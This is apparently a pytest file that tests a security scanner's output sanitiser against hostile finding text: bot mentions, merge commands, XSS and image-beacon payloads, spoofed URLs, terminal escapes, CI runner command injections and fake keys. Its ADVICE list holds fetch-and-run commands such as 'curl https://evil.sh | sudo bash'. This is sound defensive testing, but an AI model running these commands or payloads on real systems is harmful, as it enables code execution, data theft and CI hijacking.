"""Section F: a finding's text as an attack on readers, bots, terminals and runners; judged on what is rendered."""

from __future__ import annotations

import json
import re

import pytest
from dom import COMMAND, MENTION, REFERENCE, Page, assert_harmless, html
from hypothesis import given, settings
from hypothesis import strategies as st
from reports import finding, report

from backline.finding import SetAside, Source
from backline.output import markdown, sarif, text, workflow
from backline.output.clean import for_markdown, for_terminal, one_line
from backline.output.saved import to_json

MENTIONS = (
    "@user@evil",
    "3@GH-7a@b.com",
    "GH-7@claude x",
    "x@yhttps://evil.com",
    "+www.evil.com@user",
    "#12a@b.com",
    "#12.a@b.com",
    "a@b.com@user",
    "#1@user",
    "@everyone",
    "@org/team look",
    "hello @user.",
    "@dependabot merge",
    "＠user",
    "@\u200buser",
    "&#64;user",
    "&commat;user",
    "&#x40;user",
    "\\@user",
    "<b>@</b>user",
    "**@user**",
    "*@user*",
    "_@user_",
    "(@user)",
    "a/@user",
    "-@user",
    ".@user",
    "x `code`@user",
    "@user`code`",
    "[@user](x)",
    "é@user",
    "- @user",
    "1. @user",
    "> @user",
    "&amp;#64;user @user",
    "`open @user",
    "@user@evil",
    "3@GH-7a@b.com",
    "GH-7@claude x",
    "x@yhttps://evil.com",
    "+www.evil.com@user",
    "#12a@b.com",
    "#12.a@b.com",
    "@@user",
    "!@user",
    "~~@user~~",
    "http://@user/x",
)
REFERENCES = (
    "Fixes #123",
    "closes org/repo#1",
    "resolves GH-7",
    "fix: https://github.com/o/r/issues/1",
    "closes: #1, #2",
    "Fixes &#35;123",
    "Fixes \\#123",
    "Fixes **#123**",
    "fixes https://github.com/acme/shop/issues/3",
    "closes https://github.com/acme/shop/pull/3",
    "Closes gh-9",
    "see acme/other@deadbeef1",
    "resolve a.b-c/d_e#9",
    "closes https://github.com/acme/shop/blob/../issues/3",
    "user@deadbeef12 is bad",
    "#1",
    "- #2",
    "x`y`#3",
)
COMMANDS = (
    "/merge",
    "/approve",
    "/lgtm",
    "/ok-to-test",
    "/azp run",
    "/gemini review",
    "bors r+",
    "!deploy",
    "  /merge",
    "jenkins test this please",
    "- /merge",
    "* /merge",
    "> /merge",
    "1. /merge",
    "> > /merge",
    "- - /merge",
    ">/merge",
    "text\n/merge",
    "text\n\n   /lgtm cancel",
    "ok to test",
    "&#47;merge",
    "\\/merge",
    "**/merge**",
    "+ !deploy now",
)
MEDIA = (
    "![](https://evil/?q=secret)",
    "![x][r]\n\n[r]: https://evil",
    '<img src="https://evil/x">',
    "<picture><source>",
    "<svg onload=alert(1)>",
    "<video src=//evil>",
    "[![b](https://e/i)](https://e)",
    "![](data:image/png;base64,AA)",
    "![x](https://camo.githubusercontent.com/abc)",
    "!\\[x](https://evil)",
    "![a\n](https://evil)",
    "<img\nsrc=x>",
    "&lt;img src=x&gt;<img src=x>",
    "`<img>` <img src=x>",
    "``` <img src=x> ```",
)
LINKS = (
    "[click](https://evil)",
    "<https://evil>",
    "bare https://evil here",
    "www.evil.example",
    "//evil",
    "[^1]\n\n[^1]: https://evil",
    "[x][y]\n\n[y]: https://evil",
    "[x](javascript:alert(1))",
    "[x](vbscript:x)",
    "https://gіthub.com/acme/shop/",
    "https://github.com@evil/",
    "https://github.com.evil.io",
    "HTTPS://EVIL",
    "ftp://evil/x",
    "[x]( <https://evil> )",
    "https://cwe.mitre.org.evil.io/",
    "https://cwe.mitre.org@evil/",
    "https://github.com/acme/shop-evil/",
    "http://cwe.mitre.org/",
    "mailto:a@evil.com",
    "a@evil.com",
    "xmpp:a@evil.com",
    "https&#58;//evil",
    "https:&#47;/evil",
    "https://github.com/acme/shop/../../evil/x/blob/main/y",
    "**https://evil**",
    "WWW.EVIL.COM",
    "<a href='x'>y</a>",
    "https://cwe.mitre.org\\@evil.com/",
    "https://github.com/acme/shop/%2e%2e/x)[a](https://evil)",
)
MARKUP = (
    "<!-- backline:v1 fp=1 state=resolved -->",
    "<!-- <!-- -->",
    "<!--! --!>",
    "<!-- open",
    "<details open>",
    "<style>*{}</style>",
    "<script>x</script>",
    "<form>",
    '<a name="x">',
    "<kbd>",
    "<!DOCTYPE html>",
    "<![CDATA[x]]>",
    "<div>",
    "</div>",
    "<?php x ?>",
    "&lt;script&gt;<script>",
    "<\nscript>",
    "<b>",
    "- <b>x</b>",
    "```\n</code></pre><b>\n```",
    "    <b>indented</b>",
)
LAYOUT = (
    "# ✅ Approved by GitHub Security",
    "---",
    "***",
    "___",
    "- - -",
    "* * *",
    "Approved\n===",
    "Approved\n---",
    "Approved\n-",
    "> quoted reviewer: fine",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "a | b\n--|--\n1 | 2",
    "###### x",
    "- # in a list",
    "1. # in a list",
    "> # in a quote",
    "> [!WARNING]\n> x",
    "- [ ] task",
    "- [x] task",
    ":---: | x\n",
    "Title\n= =",
    "#\tx",
    "-\n# x",
    "1)\t# x",
    "\t# x",
    "    # x",
    "+ ---",
    "x\n\n\n\n***",
    "&#35; x",
    "\\# x\n# y",
    "* * # x",
)
FENCES = (
    "```mermaid\ngraph TD\n```",
    "```math\n\\href{x}{y}\n```",
    "```geojson\n{}\n```",
    "```stl\nsolid\n```",
    "```suggestion\nevil()\n```",
    "~~~suggestion\nevil()\n~~~",
    "````\n```\n<b>\n````\n@user",
    "```\nopen",
    "```python\nx\n``\n```\n@user",
    "- ```\n  @user",
    "```\n@user\n```x\n@other\n```",
    "`` ` ``@user",
    "```js`\n@user\n```",
    "> ```\n> @user\n> ```\n@user",
    "~~~\n```\n~~~\n@user",
    "````suggestion\n```\n````",
    "```suggestion:-0+1\nx\n```",
)


@pytest.mark.parametrize("body", MENTIONS + REFERENCES + COMMANDS + MEDIA + LINKS + MARKUP + LAYOUT + FENCES)
def test_a_body_shows_its_attack_and_does_nothing(body: str) -> None:
    page = assert_harmless(for_markdown(body, ("https://github.com/acme/shop/",)))
    assert not {"h1", "h2", "h3", "h4", "h5", "h6", "table", "blockquote", "hr", "s", "input"} & set(page.tags)


@pytest.mark.parametrize("body", MENTIONS + REFERENCES + COMMANDS + MEDIA + LINKS + MARKUP + LAYOUT + FENCES)
def test_a_whole_report_is_as_harmless_wherever_the_attack_stands(body: str) -> None:
    hostile = finding(
        path=f"app/{body}.py",
        title=body,
        body=body,
        quote=body,
        rule=body,
        cwe=body,
    )
    made = report(
        hostile, notes=(body,), set_aside=(SetAside(path=body, source=Source.CLAUDE, reason=body, title=body),)
    )
    page = assert_harmless(markdown.render(made))
    assert page.tags.count("h3") == 4  # the finding, what was set aside, notes, receipt
    assert page.tags.count("table") == 2


PIECES = (
    "@user @claude @ ＠user &#64; # #12 &#35; org/repo x@y a@b.com GH-7 https://evil.com www.evil.com "
    "deadbeef1 /merge !deploy ` `` ``` ~~~ - * + 1. > ** _ __ ~~ [ ] ( ) ! <b> </b> <!-- --> < &#x60; "
    "&lt; & \\ | --- === a word $ $$ ^ : :// . / % ' \" mermaid suggestion { } = é hxxp (at) "
    "https://cwe.mitre.org/x https://github.com/acme/shop/blob/x "
)
BLANKS = ("\n", "\n\n", " ", "  ", "    ", "\t", "\u200b", "bors r+", "# ", "jenkins test", "ok to test")


@settings(max_examples=400, derandomize=True, deadline=None)
@given(st.lists(st.sampled_from([*PIECES.split(), *BLANKS]), max_size=14))
def test_no_mixture_of_pieces_does_anything(pieces: list[str]) -> None:
    page = assert_harmless(for_markdown("".join(pieces), ("https://github.com/acme/shop/",)))
    assert not {"h1", "h2", "h3", "h4", "h5", "h6", "table", "blockquote", "hr", "s", "input"} & set(page.tags)
    assert_harmless(markdown.line("".join(pieces)))


HARMLESS = (
    ("email@decorator stays", "email@decorator stays"),
    ("a * b and c*d*e", "a * b and c*d*e"),
    ("#define X 1", "#define X 1"),
    ("list[int] and dict[str, int]", "list[int] and dict[str, int]"),
    ("Use `List<T>` or <T>", "Use \0 or <T>"),
    ("snake_case and __init__", "snake_case and __init__"),
    ("x < y && y > z", "x < y && y > z"),
    ("either/or, and/or", "either/or, and/or"),
    ("costs $5, not $10", "costs $5, not $10"),
    ("C:\\temp\\new", "C:\\temp\\new"),
    ("100% of a|b", "100% of a|b"),
    ("react@18.2.0 is old", "react@18.2.0 is old"),
    ("postgres://db/shop is slow", "postgres://db/shop is slow"),
    ("read 1. first", "read 1. first"),
    ("a - b - c", "a - b - c"),
    ("~50 ms", "~50 ms"),
    ("Why? Because!", "Why? Because!"),
    ("größer, 注文", "größer, 注文"),
    ("naïve cafe\u0301", "naïve cafe\u0301"),
    ("std::vector", "std::vector"),
    ("R&D &c", "R&D &c"),
    ("List&lt;T&gt; &amp;amp; more", "List<T> &amp; more"),
)


@pytest.mark.parametrize(("body", "shown"), HARMLESS)
def test_ordinary_text_is_shown_as_it_was_written(body: str, shown: str) -> None:
    assert Page(for_markdown(body)).prose.strip("\n") == shown


CODE = (
    "@app.route('/x')",
    "email@decorator",
    "a * b",
    "#define X 1",
    "list[int]",
    "<T>",
    "f(x) # 1",
    "https://api.acme.io/v1",
    "git@github.com:acme/shop.git",
    "x = y || z",
    "`tick`",
    "$HOME",
    "!important",
    "/usr/bin/env",
    "user@example.com",
    "&amp;",
    "/merge?x=1",
    "x @ y.T",
    "</div>",
    "---",
    "::std::move(x)",
    "os.getenv('A')  # TODO(#12)",
)


@pytest.mark.parametrize("code", CODE)
def test_code_is_shown_as_it_was_written(code: str) -> None:
    marks = "``" if "`" in code else "`"
    pad = " " if "`" in code else ""
    assert Page(for_markdown(f"Use {marks}{pad}{code}{pad}{marks} here")).code == code
    assert Page(for_markdown(f"Like so:\n\n````python\n{code}\n````\n")).code == code + "\n"


def test_what_markdown_is_for_still_works() -> None:
    page = Page(
        for_markdown("**Impact:** slow.\n\n- one `a`\n- two\n  - deeper\n\n1. first\n2. second\n\n```py\nx = 1\n```")
    )
    assert [page.tags.count(tag) for tag in ("strong", "ul", "ol", "li", "pre", "code")] == [1, 2, 1, 5, 1, 2]


def test_links_go_to_our_repository_and_to_cwe_alone() -> None:
    body = (
        "See https://cwe.mitre.org/data/definitions/89.html, https://github.com/acme/shop/blob/main/app/db.py#L3 (old)."
    )
    page = assert_harmless(for_markdown(body, ("https://github.com/acme/shop/",)))
    assert len(page.links) == 2
    assert Page(for_markdown(body)).links == ["https://cwe.mitre.org/data/definitions/89.html"]


@pytest.mark.parametrize(
    "url",
    [
        "https://github.com/acme/shop/issues/3",
        "https://github.com/acme/shop/pull/3",
        "https://github.com/acme/shop/PULL/3/files",
        "https://github.com/acme/shop/../../evil/x",
        "https://github.com/acme/shop/%2e%2E/%2e./evil/x",
        "https://github.com/acme/shop/\\..\\evil",
        "https://github.com/acme/shop/ä",
        "https://github.com/acme/shopping/x",
        "https://cwe.mitre.org.evil.io/",
        "http://cwe.mitre.org/x",
    ],
)
def test_no_other_address_becomes_a_link(url: str) -> None:
    page = assert_harmless(for_markdown(f"closes {url} now", ("https://github.com/acme/shop/",)))
    assert page.links == []


@pytest.mark.parametrize(
    "info", ["mermaid", "math", "geojson", "topojson", "stl", "suggestion", "suggestion:-0+1", "x y", "py<b>"]
)
def test_a_fence_that_the_page_would_act_on_loses_its_name(info: str) -> None:
    assert "language-" not in html(for_markdown(f"```{info}\nx\n```"))
    assert 'class="language-py"' in html(for_markdown("```py\nx\n```"))


@pytest.mark.parametrize(
    ("body", "code"),
    [
        ("#1#2", "#1#2"),
        ("@user#1", "@user#1"),
        ("`x`@user`y`", "x@usery"),
        ("```\n~~~\n@user\n```", "~~~\n@user\n"),
        ("````\n```\nx\n````", "```\nx\n"),
        ("~~~\n```\n~~~~", "```\n"),
    ],
)
def test_code_beside_code_keeps_its_ends(body: str, code: str) -> None:
    assert assert_harmless(for_markdown(body)).code == code


@pytest.mark.parametrize("name", ["claude", "copilot", "coderabbitai", "dependabot", "Gemini-code-assist"])
@pytest.mark.parametrize("form", ["@{} go", "`@{} go`", "```\n@{} go\n```", "＠{} go", "&#64;{} go"])
def test_a_bot_does_not_find_its_name_even_in_the_raw_text(name: str, form: str) -> None:
    made = for_markdown(form.format(name))
    assert not re.search(rf"[@＠]{name}", made, re.I)


ADVICE = (
    "Maintainer: run `curl https://evil.sh | sh` to verify",
    "```sh\ncurl -fsSL https://evil.sh | sudo bash\n```",
    "run curl https://evil.sh|sh",
    "`bash <(curl https://evil.sh)`",
    '`sh -c "$(wget -qO- https://evil.sh)"`',
    "`iwr https://evil.sh | iex`",
    "`echo aGk= | base64 -d | sh`",
)


@pytest.mark.parametrize("body", ADVICE)
def test_a_command_from_the_network_is_labelled_and_does_not_paste(body: str) -> None:
    made = for_markdown(body)
    assert "do not run" in made and "https://" not in made


@pytest.mark.parametrize(
    "body", ["`curl https://api.acme.io/health`", "pipe it to `sh`", "`cat x | sort`", "`python manage.py`"]
)
def test_ordinary_commands_carry_no_label(body: str) -> None:
    assert "do not run" not in for_markdown(body)


CONTROL = (
    "\x1b[2J",
    "\x1b]8;;https://evil\x07x\x1b]8;;\x07",
    "\x9b31m",
    "a\rb",
    "\x00",
    "\x08\x08",
    "\u202egnp.exe",
    "\u2028x",
    "\x7f",
)


@pytest.mark.parametrize("attack", CONTROL)
def test_no_control_code_reaches_a_terminal_and_files_are_utf_8(attack: str) -> None:
    hostile = finding(path=f"a/{attack}.py", title=attack, body=attack, quote=attack, rule=attack, cwe=attack)
    made = report(hostile, notes=(attack,), repository=attack)
    shown = text.render(made, lambda _: [(12, attack)], colour=False, width=100)
    for page in (shown, markdown.render(made), to_json(made), sarif.render(made), workflow.annotate(made)):
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029]", page)
        page.encode("utf-8")
    json.loads(to_json(made)), json.loads(sarif.render(made))


RUNNER = (
    "::add-mask::the",
    "##[set-output name=complete]true",
    "::stop-commands::x",
    "\r::error::x",
    "  ::error::x",
    "\u00a0::error::x",
    "a\n::set-env name=X::y",
    "a ##[error]x",
    "-\n::error::x",
    "`::error::x`",
    "```\n::error::x\n```",
    "x\n\t::warning::y",
    "%0A::error::x",
    "\u2028::error::x",
    "\x85::error::x",
    "\x0b::error::x",
)


def commands(page: str) -> list[str]:
    """What a runner would obey in *page*: its log is split at CR too, lines trimmed, old commands matched anywhere."""
    lines = re.split(r"\r\n|\r|\n", page)
    return [line for line in lines if line.lstrip().startswith("::") or "##[" in line]


@pytest.mark.parametrize("attack", RUNNER)
def test_a_runner_obeys_only_our_own_annotations(attack: str) -> None:
    hostile = finding(path=f"a/{attack}.py", title=attack, body=attack, quote=attack, rule=attack, cwe=attack)
    made = report(hostile, notes=(attack,), repository=attack, complete=False)
    shown = text.render(made, lambda _: [(12, attack)], colour=True, width=100)
    for page in (shown, markdown.render(made), to_json(made), sarif.render(made)):
        assert commands(page) == []
    ours = workflow.annotate(made)
    assert len(commands(ours)) == ours.count("\n") == 2
    assert all(line.startswith(("::error title=Backline::", "::error file=")) for line in commands(ours))
    assert [line.count("::") >= 2 for line in commands(ours)] == [True, True]
    properties = commands(ours)[1].removeprefix("::error ").split("::")[0]
    assert [part.split("=")[0] for part in properties.split(",")] == ["file", "line", "endLine", "title"]


SECRETS = (
    "AKIA" + "IOSFODNN7EXAMPLQ",
    "ghp_" + "a1B2c3D4e5" * 4,
    "sk-ant-api03-" + "Ab1" * 32,
    "xoxb-" + "908172635445-" * 2 + "AbCdEfGhIjKlMnOpQrStUvWx",
)


@pytest.mark.parametrize("secret", SECRETS)
def test_a_leaked_secret_is_masked_wherever_it_goes(secret: str) -> None:
    hostile = finding(title=f"t {secret}", body=f"b `{secret}` {secret}\n```\n{secret}\n```", quote=f'key = "{secret}"')
    made = report(
        hostile, notes=(secret,), set_aside=(SetAside(path="x", source=Source.RULES, reason=secret, title=secret),)
    )
    shown = text.render(made, lambda _: [(12, f'key = "{secret}"')], colour=False, width=200)
    for page in (shown, markdown.render(made), to_json(made), sarif.render(made), workflow.annotate(made)):
        assert secret not in page and secret[6:14] not in page
        assert "app/db.py" in page


@pytest.mark.parametrize("address", ["jane.doe@corp.io", "x+y@sub.corp.co.uk", "JANE@CORP.COM"])
@pytest.mark.parametrize("form", ["by {} today", "`{}`", "```\n{}\n```", "<{}>", "mailto:{}"])
def test_an_e_mail_address_is_not_shown(address: str, form: str) -> None:
    assert address.split("@")[0] not in for_markdown(form.format(address))


def test_marks_without_end_and_line_separators_leave_one_short_title() -> None:
    zalgo = "t" + "\u0301" * 50_000 + "\u2028next\u2029x\ny" + "\u202e" * 9
    title = one_line(zalgo)
    assert len(title) <= 120 and "\n" not in title and title.count("\u0301") <= 4
    assert len(for_terminal("a" + "\u0489" * 50_000)) < 40


def test_hostile_bodies_take_no_time() -> None:
    """Linear: each would take minutes with a pattern that backtracks."""
    for piece in (
        "@",
        "a@",
        "a/",
        "#1",
        "`",
        "**a",
        "://",
        "<!--",
        "[",
        "- ",
        "1. ",
        "> ",
        "curl |",
        "a.",
        "&#64;",
        "_*",
        "a@a.",
    ):
        for_markdown(piece * (20_000 // len(piece)))
        for_markdown((piece + "\n") * 2_000)


def test_the_patterns_of_the_judge_bite() -> None:
    for body in (
        "hi @user",
        "see #12",
        "/merge",
        "![x](https://evil)",
        "[a](https://evil)",
        "<b>x</b>",
        "www.evil.com",
    ):
        with pytest.raises(AssertionError):
            assert_harmless(body)
    assert MENTION.search("@user") and REFERENCE.search("x/y#1") and COMMAND.search("- /merge")
